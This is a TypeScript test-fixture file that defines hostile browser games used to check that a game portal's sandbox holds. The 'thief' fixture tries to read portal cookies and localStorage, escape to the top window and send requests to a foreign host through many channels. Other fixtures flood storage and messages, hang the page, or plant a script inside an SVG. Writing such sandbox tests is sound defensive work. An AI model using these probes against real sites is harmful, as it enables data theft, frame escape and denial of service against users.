import type { Fixture } from './games.ts';

/**
 * A hostile game: it tries everything, one thing after the other, and puts what it got into its
 * title. `nothing` is what it should get.
 */
const TRIES = (foreign: string, portal: string): string => `
var got = [];
function attempt(name, work) {
  try {
    var value = work();
    if (value) got.push(name);
  } catch (error) {}
}
attempt('portal storage', function () { return localStorage.getItem('secret') || localStorage.getItem('portal'); });
attempt('portal cookie', function () { return /secret/.test(document.cookie); });
attempt('cage window', function () { return window['top'].document.body || window['top'].frames[0].document; });
attempt('cage storage', function () { return window['top'].localStorage || window['top'].frames[0].localStorage; });
attempt('clean frame', function () {
  var frame = document.createElement('iframe');
  document.body.appendChild(frame);
  return frame.contentWindow.localStorage.getItem('secret');
});
attempt('top', function () { top.location = '${foreign}/top'; });
attempt('real top', function () { window['top'].location = '${foreign}/real-top'; return true; });
attempt('top by link', function () {
  var link = document.createElement('a');
  link.target = '_top'; link.href = '${foreign}/top-link';
  document.body.appendChild(link);
  link.click();
});
attempt('popup', function () { return window.open('${foreign}/popup'); });
function add(tag, values) {
  var element = document.createElement(tag);
  Object.keys(values).forEach(function (key) { element.setAttribute(key, values[key]); });
  document.body.appendChild(element);
  return element;
}
add('img', { src: '${foreign}/image' });
add('script', { src: '${foreign}/script' });
add('link', { rel: 'stylesheet', href: '${foreign}/style' });
add('link', { rel: 'prefetch', href: '${foreign}/prefetch' });
add('link', { rel: 'preload', as: 'fetch', href: '${foreign}/preload' });
add('link', { rel: 'icon', href: '${foreign}/icon' });
add('link', { rel: 'manifest', href: '${foreign}/manifest' });
add('iframe', { src: '${foreign}/frame' });
add('video', { src: '${foreign}/video', autoplay: '' });
add('object', { data: '${foreign}/object' });
add('embed', { src: '${foreign}/embed' });
add('style', {}).textContent = '@font-face{font-family:x;src:url(${foreign}/font)} body{font-family:x;background:url(${foreign}/css)}';
var form = add('form', { action: '${foreign}/form', method: 'post' });
try { form.submit(); } catch (error) {}
try { navigator.sendBeacon('${foreign}/beacon', 'x'); } catch (error) {}
try { new WebSocket('${foreign}/socket'.replace('http', 'ws')); } catch (error) {}
try { new EventSource('${foreign}/events'); } catch (error) {}
try { new Worker('${foreign}/worker.js').onerror = function (event) { event.preventDefault(); }; } catch (error) {}
attempt('peer connection', function () { return window.RTCPeerConnection && new RTCPeerConnection(); });
var inner = '', loaded = [];
addEventListener('message', function (event) { if (event.data === 'function') got.push('peer connection of a frame'); });
try {
  inner = '<!--><script>parent.postMessage(typeof RTCPeerConnection,"*")<' + '/script>-->';
  add('div', {}).innerHTML = '<iframe srcdoc="' + inner.replace(/"/g, '&quot;') + '"></iframe>';
  var tree = add('div', {}).attachShadow({ mode: 'closed' });
  tree.innerHTML = '<iframe srcdoc="' + inner.replace(/"/g, '&quot;') + '"></iframe>';
  var frames = [add('iframe', {}), add('iframe', { srcdoc: inner }), tree.firstChild];
  frames[0].srcdoc = inner;
  loaded = frames.map(function (frame) {
    return new Promise(function (settle) { frame.addEventListener('load', function () { setTimeout(settle); }); });
  });
} catch (error) {}
try { add('iframe', {}).srcdoc = '<img src="${foreign}/srcdoc"><script>fetch("${foreign}/inner")<' + '/script>'; } catch (error) {}
Promise.all([
  fetch('${foreign}/fetch').then(function () { got.push('foreign host'); }, function () {}),
  fetch('${foreign}/no-cors', { mode: 'no-cors' }).then(function () { got.push('foreign host blind'); }, function () {}),
  fetch('${portal}/data/catalogue.json').then(function (answer) { return answer.ok && got.push('portal data'); }, function () {}),
  fetch('${portal}/content/vote', { method: 'POST', body: '{}' }).then(function (answer) { return answer.ok && got.push('vote'); }, function () {}),
  Promise.all(loaded),
]).then(function () {
  document.title = got.length ? 'got ' + got.join(', ') : 'nothing';
});
`;

const CANVAS = '<canvas id="c" width="320" height="240"></canvas>';

export const attacks = (foreign: string, portal = ''): Readonly<Record<string, Fixture>> => ({
  thief: {
    files: {
      'index.html': `<!doctype html><meta charset="utf-8"><title>starting</title>${CANVAS}<script>c.getContext('2d').fillRect(0, 0, 9, 9);${TRIES(foreign, portal)}</script>`,
    },
    title: 'nothing',
  },
  flood: {
    files: {
      'index.html': `<!doctype html><title>starting</title>${CANVAS}<script>
        c.getContext('2d').fillRect(0, 0, 9, 9);
        var real = Object.getPrototypeOf(window);
        for (var at = 0; at < 30; at += 1) { try { localStorage['k' + at] = new Array(400000).join('x'); } catch (error) {} }
        var sent = 0;
        setInterval(function () {
          for (var at = 0; at < 25; at += 1) { top.postMessage({ mark: 'play/1', kind: 'leave' }, '*'); sent += 1; }
          localStorage.n = sent;
        }, 5);
        document.title = 'flooding';
      </script>`,
    },
    title: 'flooding',
  },
  endless: {
    files: {
      'index.html': `<!doctype html><title>starting</title>${CANVAS}<script>
        c.getContext('2d').fillRect(0, 0, 9, 9);
        document.title = 'endless';
        setTimeout(function () { for (;;) {} }, 1500);
      </script>`,
    },
    title: 'endless',
  },
  collider: {
    entry: 'index.html',
    files: {
      'index.html': `<!doctype html><title>starting</title>${CANVAS}<script src="cage-page.js.gz"></script><script src="/cage-page.js"></script><script>
        c.getContext('2d').fillRect(0, 0, 9, 9);
        document.title = window.fromBr + ' ' + window.fromPage;
      </script>`,
      'cage-page.js.gz': 'var fromBr = 1;',
      'cage-page.js': 'var fromPage = 2;',
      'cage-page.js.br': 'not brotli',
      'packed/index.html.br': 'not brotli',
      'files/index.html': 'mine',
      'evil.svg':
        '<svg xmlns="http://www.w3.org/2000/svg"><script>document.documentElement.setAttribute("data-origin", origin)</script></svg>',
    },
    title: '1 2',
  },
});
